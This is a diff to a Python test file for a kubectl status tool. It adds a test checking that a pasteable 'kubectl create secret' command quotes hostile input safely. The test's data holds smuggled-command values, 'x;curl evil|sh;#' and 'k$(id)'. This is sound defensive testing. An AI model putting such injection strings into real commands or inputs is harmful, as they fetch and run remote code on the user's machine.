@@ -1,5 +1,6 @@
 """What `kubectl sew status` says of a webhook, from all that is known of it."""
 
+import shlex
 from collections.abc import Mapping
 from dataclasses import replace
 from typing import Any
@@ -140,3 +141,11 @@ def test_what_no_agent_prints_is_refused(text: str) -> None:
 
 def test_rows_that_are_none_are_left_out() -> None:
     assert read_status('{"agent": {}, "webhooks": [5, {}, {"name": "a"}]}')["webhooks"] == [{"name": "a"}]
+
+
+def test_a_command_to_paste_holds_what_an_author_wrote_as_one_word() -> None:
+    evil = Reference("Secret", "x;curl evil|sh;#", "k$(id)")
+    seen = replace(WEBHOOK, config=(ConfigVar("url", evil),))
+    (found,) = resolve_references(seen, Held({}))
+    command = shlex.split(found.help("secrets"))
+    assert command[5:] == ["generic", "x;curl evil|sh;#", "--from-file=k$(id)=FILE"]
